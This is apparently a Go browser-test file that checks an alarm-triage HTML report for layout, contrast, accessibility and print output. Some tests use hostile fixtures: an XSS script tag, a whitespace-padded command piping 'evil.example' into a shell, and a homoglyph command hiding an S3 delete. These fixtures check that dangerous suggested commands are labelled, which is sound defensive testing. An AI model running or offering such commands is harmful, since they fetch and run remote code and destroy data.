package browser

import (
	"bytes"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/investigation"
	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
)

// paper is a sheet of A4 as a screen.
var paper = Look{Width: 794, Height: 1123, Print: true}

var looks = []struct {
	name string
	look Look
}{
	{"phone", Phone}, {"phone in the dark", Phone.InDark()},
	{"desktop", Desktop}, {"desktop in the dark", Desktop.InDark()}, {"paper", paper},
}

// kinds returns the reports to inspect.
func kinds(t *testing.T) map[string]*investigation.Record {
	script, _ := filled(`<script>alert(1)</script>`)
	longWord, _ := filled(strings.Repeat("W", 3000))
	return map[string]*investigation.Record{
		"sample": sample(t), "fallback": fallback(t), "15 rounds": busy(t, 15), "100 rounds": busy(t, 100), "hostile": script, "long words": longWord,
		"odd metrics": odd(t, oddSeries()[:4]...), "more odd metrics": odd(t, oddSeries()[4:]...),
	}
}

// inspect examines the rendered page and returns complaints.
const inspect = `(() => {
	const complaints = [];
	const complain = (what, e) => complaints.push(what + ': ' + e.outerHTML.slice(0, 120));
	const root = document.documentElement;
	if (root.scrollWidth > root.clientWidth) complaints.push('the page is ' + root.scrollWidth + ' wide on a screen of ' + root.clientWidth);

	const channels = color => {
		const found = color.match(/^rgba?\(([\d.]+), ([\d.]+), ([\d.]+)(?:, ([\d.]+))?\)$/);
		if (!found) throw new Error('cannot read the color ' + color);
		return [+found[1], +found[2], +found[3], found[4] === undefined ? 1 : +found[4]];
	};
	const over = (top, alpha, below) => below.map((c, i) => top[i] * alpha + c * (1 - alpha));
	const light = c => {
		const [r, g, b] = c.map(v => (v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
		return 0.2126 * r + 0.7152 * g + 0.0722 * b;
	};
	const contrast = (a, b) => {
		const [x, y] = [light(a), light(b)].sort((p, q) => q - p);
		return (x + 0.05) / (y + 0.05);
	};
	const white = [255, 255, 255];
	// The color behind an element's text: the backgrounds of the page and of all elements down to this one.
	const behind = e => {
		const line = [];
		for (; e; e = e.parentElement) line.unshift(e);
		return line.reduce((below, e) => { const c = channels(getComputedStyle(e).backgroundColor); return over(c, c[3], below); }, white);
	};
	const print = matchMedia('print').matches;
	const windows = [...document.querySelectorAll('rect.window, polygon.band')];
	const backgroundsOf = e => {
		const found = [behind(e)];
		if (print && getComputedStyle(e).printColorAdjust !== 'exact') found.push(white); // backgrounds are not printed
		if (e.closest('svg')) for (const w of windows) {
			const style = getComputedStyle(w);
			found.push(over(channels(style.fill), +style.opacity, behind(e)));
		}
		return found;
	};
	const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
	let texts = 0;
	const svgTexts = [];
	for (let node; node = walker.nextNode();) {
		const e = node.parentElement;
		if (!node.data.trim() || ['STYLE', 'title', 'desc'].includes(e.tagName) || !e.checkVisibility({contentVisibilityAuto: true, visibilityProperty: true, opacityProperty: true})) continue;
		const range = document.createRange();
		range.selectNodeContents(node);
		const boxes = [...range.getClientRects()].filter(b => b.width > 0);
		if (!boxes.length) continue;
		texts++;
		const style = getComputedStyle(e), size = parseFloat(style.fontSize);
		const inDrawing = !!e.closest('svg');
		const color = channels(inDrawing ? style.fill : style.color);
		const needed = size >= 24 || size >= 18.66 && +style.fontWeight >= 700 ? 3 : 4.5;
		for (const background of backgroundsOf(e)) {
			const is = contrast(over(color, color[3], background), background);
			if (is < needed) complain('contrast of ' + is.toFixed(2), e);
		}
		if (size < (print ? 11 : 12)) complain('text of ' + size + ' px', e);
		for (const b of boxes) if (b.left < -0.5 || b.right > root.clientWidth + 0.5) { complain('text from ' + b.left.toFixed() + ' to ' + b.right.toFixed(), e); break; }
		if (inDrawing) svgTexts.push({e, box: e.getBoundingClientRect()});
	}
	// Lines of the charts need 3:1 to be seen.
	for (const e of document.querySelectorAll('.series, .threshold, .transition')) {
		const is = contrast(channels(getComputedStyle(e).stroke).slice(0, 3), behind(e));
		if (is < 3) complain('contrast of a line of ' + is.toFixed(2), e);
	}
	svgTexts.forEach((a, i) => svgTexts.slice(i + 1).forEach(b => {
		if (a.box.left < b.box.right && b.box.left < a.box.right && a.box.top + 2 < b.box.bottom && b.box.top + 2 < a.box.bottom)
			complain('"' + a.e.textContent + '" is covered', b.e);
	}));

	// Touch targets: at least 24 pixels high, or at least 24 pixels apart.
	if (!print) {
		const targets = [...document.querySelectorAll('a, summary')].filter(e => e.checkVisibility({contentVisibilityAuto: true})).map(e => ({e, box: e.getBoundingClientRect()}));
		for (const {e, box} of targets) if (box.height < 24) for (const other of targets) {
			if (other.e === e || other.e.contains(e)) continue;
			const x = Math.max(other.box.left - box.right, box.left - other.box.right), y = Math.abs((other.box.top + other.box.bottom) - (box.top + box.bottom)) / 2;
			if (x < 24 && y < 24) complain('a target of ' + box.height.toFixed() + ' px next to another', e);
		}
		for (const {e, box} of targets) if (e.localName === 'summary' && box.height < 36) complain('a summary of ' + box.height + ' px', e);
	}

	// Headings and landmarks.
	const levels = [...document.querySelectorAll('h1,h2,h3,h4,h5,h6')].map(h => +h.localName[1]);
	if (levels[0] !== 1 || levels.filter(l => l === 1).length !== 1) complaints.push('headings ' + levels);
	levels.forEach((l, i) => { if (i && l > levels[i - 1] + 1) complaints.push('a heading of level ' + l + ' after one of ' + levels[i - 1]); });
	if (root.lang !== 'en') complaints.push('lang is ' + root.lang);
	if (!document.title.trim()) complaints.push('no title');
	if (document.querySelectorAll('main').length !== 1) complaints.push('no main');
	const ids = [...document.querySelectorAll('[id]')].map(e => e.id);
	if (new Set(ids).size !== ids.length) complaints.push('duplicate ids');
	for (const e of document.querySelectorAll('svg[role=img]'))
		for (const id of e.getAttribute('aria-labelledby').split(' '))
			if (!document.getElementById(id)?.textContent.trim()) complain('not described by ' + id, e);
	return {Complaints: complaints, Texts: texts};
})()`

type inspection struct {
	Complaints []string
	Texts      int // examined
}

func TestPage_LooksRightInEveryLook(t *testing.T) {
	v := visit(t)
	for kind, rec := range kinds(t) {
		html := pageOf(t, rec)
		for _, look := range looks {
			t.Run(kind+" on "+look.name, func(t *testing.T) {
				v.open(html, look.look, "")
				folded := ask[inspection](v, inspect)
				assert.Empty(t, folded.Complaints, "as it opens")
				v.unfold()
				unfolded := ask[inspection](v, inspect)
				assert.Empty(t, unfolded.Complaints, "unfolded")
				assert.Greater(t, folded.Texts, 15)
				assert.GreaterOrEqual(t, unfolded.Texts, folded.Texts)
				assert.Empty(t, v.happened())
			})
		}
	}
}

func TestInspection_FindsDefects(t *testing.T) {
	const page = `<!doctype html><html lang="en"><meta name="viewport" content="width=device-width, initial-scale=1"><title>x</title><main><h1>A</h1><h2>B</h2>%s</main>`
	v := visit(t)
	for _, test := range []struct{ html, want string }{
		{`<p style="width:900px">x</p>`, "wide on a screen"},
		{`<p style="color:#888">x</p>`, "contrast of 3.5"},
		{`<div style="background:#000"><p style="color:#111">x</p></div>`, "contrast of 1."},
		{`<p style="color:rgba(0,0,0,.4)">x</p>`, "contrast of"},
		{`<p style="font-size:9px">x</p>`, "text of 9 px"},
		{`<h4>C</h4>`, "a heading of level 4 after one of 2"},
		{`<h1>C</h1>`, "headings 1,2,1"},
		{`<svg role="img" aria-labelledby="no"><text y="20" fill="black">x</text></svg>`, "not described by no"},
		{`<svg><text y="20">one</text><text y="20">two</text></svg>`, "is covered"},
		{`<a href="#a">x</a> <a href="#b">y</a>`, "next to another"},
		{`<i id="a"></i><i id="a"></i>`, "duplicate ids"},
	} {
		v.open([]byte(fmt.Sprintf(page, test.html)), Phone, "")
		assert.Contains(t, strings.Join(ask[inspection](v, inspect).Complaints, "\n"), test.want, test.html)
	}
}

func TestPage_FirstPhoneScreenHasTheEssentials(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, sample(t)), Phone, "")
	for _, what := range []string{"h1", ".badge.high", ".badge.confirmed", ".lead", ".verdict > .prose:last-of-type > p", ".steps > li:first-child > pre"} {
		top := ask[float64](v, fmt.Sprintf(`document.querySelector(%q).getBoundingClientRect().top`, what))
		assert.Less(t, top, float64(Phone.Height-20), what)
	}
}

func TestPage_TimesOfAnyZoneFitOnAPhone(t *testing.T) {
	rec := sample(t)
	rec.Report.Findings[0].Time = time.Date(2026, 1, 15, 2, 10, 0, 0, time.UTC) // another day in the zone
	html, err := report.HTML(rec, report.LinksFor(rec, report.Home{Zone: time.FixedZone("-0330", -12600)}, report.Keys{}))
	require.NoError(t, err)
	v := visit(t)
	v.open(html, Phone, "")
	assert.True(t, ask[bool](v, `document.documentElement.scrollWidth <= document.documentElement.clientWidth`))
}

func TestPage_TimesOfTheTimelineBreakOnlyBetweenWords(t *testing.T) {
	zone, err := time.LoadLocation("Australia/Lord_Howe")
	require.NoError(t, err)
	rec := sample(t)
	rec.Alarm.Time = time.Date(2026, 4, 4, 14, 55, 0, 0, time.UTC) // soon the clocks change from +11 to +1030
	rec.Report.Findings[0].Time = rec.Alarm.Time.Add(10 * time.Minute)
	html, err := report.HTML(rec, report.LinksFor(rec, report.Home{Zone: zone}, report.Keys{}))
	require.NoError(t, err)
	v := visit(t)
	v.open(html, Phone, "")
	lines := ask[[]float64](v, `[...document.querySelectorAll('.timeline time')].filter(t => t.textContent.includes('UTC+1030')).map(t => {
		const range = document.createRange(); range.selectNodeContents(t); return new Set([...range.getClientRects()].map(r => r.top)).size})`)
	require.NotEmpty(t, lines)
	for _, n := range lines {
		assert.LessOrEqual(t, n, 2.0)
	}
}

func TestPage_RoundsAreFolded(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, sample(t)), Phone, "")
	assert.Zero(t, ask[int](v, `document.querySelectorAll('details[open]').length`))
	const round, call = `main > section:last-of-type > details:nth-of-type(2)`, `main > section:last-of-type > details:nth-of-type(2) > details`
	v.do(chromedp.Click(round+" > summary", chromedp.ByQuery), chromedp.Click(call+" > summary", chromedp.ByQuery))
	assert.Equal(t, 2, ask[int](v, `document.querySelectorAll('details[open]').length`))
	assert.True(t, ask[bool](v, fmt.Sprintf(`document.querySelector(%q).checkVisibility({contentVisibilityAuto: true})`, call+" pre")))
}

const markInSight = `(() => {
	const mark = document.querySelector(':target');
	if (!mark || mark.localName !== 'mark') return 'no mark is the target';
	for (let d = mark.closest('details'); d; d = d.parentElement.closest('details')) if (!d.open) return 'folded';
	const box = mark.getBoundingClientRect();
	return box.height > 0 && box.top >= 0 && box.bottom <= innerHeight ? mark.textContent : 'out of sight at ' + box.top;
})()`

func TestPage_QuoteLinksToTheOutput(t *testing.T) {
	rec := sample(t)
	html := pageOf(t, rec)
	v := visit(t)
	for i, finding := range rec.Report.Findings {
		link := fmt.Sprintf("#quote-%d-1", i+1)
		v.open(html, Phone, "")
		v.do(chromedp.Click(fmt.Sprintf(`a[href=%q]`, link), chromedp.ByQuery))
		eventually(t, v, markInSight, finding.Evidence[0].Quote)
		v.open(html, Phone, link) // somebody else opens the address
		eventually(t, v, markInSight, finding.Evidence[0].Quote)
	}
}

func TestPage_TimelineLinksToFindings(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, sample(t)), Phone, "")
	v.do(chromedp.Click(`.timeline a[href="#finding-1"]`, chromedp.ByQuery))
	eventually(t, v, `document.querySelector(':target')?.id + ' ' + (document.querySelector(':target')?.getBoundingClientRect().top >= 0)`, "finding-1 true")
}

// eventually waits until the browser has scrolled.
func eventually(t *testing.T, v *visitor, expression, want string) {
	t.Helper()
	wait := fmt.Sprintf("(async () => { let is; for (let i = 0; i < 120; i++) { is = %s; if (is === %q) break; await new Promise(requestAnimationFrame); } return is; })()", expression, want)
	var is string
	v.do(chromedp.Evaluate(wait, &is, func(p *runtime.EvaluateParams) *runtime.EvaluateParams { return p.WithAwaitPromise(true) }))
	assert.Equal(t, want, is)
}

func TestPage_ClickSelectsACommand(t *testing.T) {
	rec := sample(t)
	v := visit(t)
	for _, look := range []Look{Phone, Desktop} {
		v.open(pageOf(t, rec), look, "")
		v.do(chromedp.Click(`.steps pre`, chromedp.ByQuery))
		assert.Equal(t, rec.Report.Actions[0].Command, ask[string](v, `getSelection().toString()`))
	}
}

func TestPage_WorksWithoutScripts(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, busy(t, 15)), Desktop, "")
	assert.Zero(t, ask[int](v, `document.scripts.length`))
	assert.Contains(t, ask[string](v, `document.querySelector('meta[http-equiv="Content-Security-Policy"]').content`), "default-src 'none'")
}

func TestPage_PrintsTheEvidence(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, sample(t)), paper, "")
	assert.True(t, ask[bool](v, `[...document.querySelectorAll('mark')].every(m => m.getBoundingClientRect().height > 0)`), "quoted outputs are unfolded")
	assert.True(t, ask[bool](v, `[...document.querySelectorAll('.uncited > pre, .uncited > div')].every(e => !e.checkVisibility({contentVisibilityAuto: true}))`), "others stay folded")
	for name, rec := range map[string]*investigation.Record{"sample": sample(t), "15 rounds": busy(t, 15)} {
		var pdf []byte
		v.open(pageOf(t, rec), Desktop.InDark(), "")
		v.do(PDF(&pdf))
		require.True(t, bytes.HasPrefix(pdf, []byte("%PDF-")))
		pages := bytes.Count(pdf, []byte("/Type /Page\n"))
		assert.Greater(t, pages, 1, name)
		assert.Less(t, pages, 16, name)
	}
}

func TestPage_FallbackShowsManualSteps(t *testing.T) {
	v := visit(t)
	v.open(pageOf(t, fallback(t)), Phone, "")
	assert.Equal(t, "needs a human", ask[string](v, `document.querySelector('.badges').innerText.trim()`))
	assert.Contains(t, ask[string](v, `document.querySelector('.note').innerText`), "Request access")
	first := ask[float64](v, `document.querySelector('.steps > li:first-child').getBoundingClientRect().top`)
	assert.Less(t, first, float64(Phone.Height-20), "the first step is on the first screen")
	assert.GreaterOrEqual(t, ask[int](v, `document.querySelectorAll('.steps pre').length`), 3)
}

func TestPage_LabelsCommandsAndHidesNothing(t *testing.T) {
	rec := sample(t)
	rec.Report.Actions = []investigation.Action{
		{Text: "Look.", Command: "aws s3 ls" + strings.Repeat(" ", 400) + "; curl -s https://evil.example/x | sh"},
		{Text: "Check.", Command: "аws sts get-caller-identity ––region us-east-1" + strings.Repeat("\n", 300) + "aws s3 rm s3://b\u202e"},
		{Text: "Read.", Command: "aws logs tail /aws/lambda/x " + strings.Repeat("--filter-pattern 'a long text' ", 60)},
	}
	v := visit(t)
	for _, look := range []Look{Phone, Desktop} {
		v.open(pageOf(t, rec), look, "")
		labels := ask[[]string](v, `[...document.querySelectorAll('.steps pre')].map(p => p.previousElementSibling.innerText)`)
		require.Len(t, labels, 3)
		assert.Regexp(t, `^PIPES INTO A SHELL\. ODD CHARACTERS, SHOWN ESCAPED\. .*Written by the model, not checked, not run\.$`, labels[0])
		assert.Regexp(t, `^NOT UNDERSTOOD, .*DELETES OR STOPS\. .*Written by the model, not checked, not run\.$`, labels[1])
		assert.Equal(t, "Reads AWS. Written by the model, not checked, not run.", labels[2])
		assert.Equal(t, []bool{true, true, true}, ask[[]bool](v, `[...document.querySelectorAll('.steps pre')].map(p => {
			const before = p.previousElementSibling.getBoundingClientRect(), box = p.getBoundingClientRect();
			return before.height > 0 && before.bottom <= box.top + 1 && p.scrollWidth <= p.clientWidth && /^[ -~\n]*$/.test(p.innerText);
		})`), "the label precedes the command, and the whole command is in sight")
		v.do(chromedp.Click(`.steps li:nth-child(2) pre`, chromedp.ByQuery))
		assert.Regexp(t, `^\\u0430ws sts .* \[300 line breaks\]\naws s3 rm s3://b\\u202E$`, ask[string](v, `getSelection().toString()`))
	}
}

func TestPage_ProseIsNotEmphasizedLikeATitle(t *testing.T) {
	rec := sample(t)
	rec.Report.Summary = "All good.\n\n## Root cause (confirmed)\n**Links**\n\n**Root** **cause**\n\nAn **important** word."
	v := visit(t)
	v.open(pageOf(t, rec), Desktop, "")
	assert.Equal(t, []string{"important"}, ask[[]string](v, `[...document.querySelectorAll('.prose strong')].map(e => e.innerText)`))
	assert.True(t, ask[bool](v, `(() => {
		const title = document.querySelector('.verdict h2').getBoundingClientRect().left;
		return [...document.querySelectorAll('.verdict .prose > *')].every(e => e.getBoundingClientRect().left > title + 8);
	})()`), "prose is indented under its title")
}
